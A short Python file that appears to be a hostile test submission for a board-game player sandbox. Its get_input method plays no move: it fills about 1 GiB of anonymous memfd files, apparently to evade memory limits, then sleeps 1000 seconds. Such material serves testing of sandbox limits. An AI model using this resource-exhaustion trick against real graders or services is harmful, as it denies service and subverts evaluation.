"""Hoards memory in files that have no name."""

import os
import time


class MyPlayer:
    def get_input(self, go, piece_type):
        files = []
        for _ in range(64):
            files.append(os.memfd_create("hoard"))
            for _ in range(16):
                os.write(files[-1], bytes(1 << 20))
        time.sleep(1000)
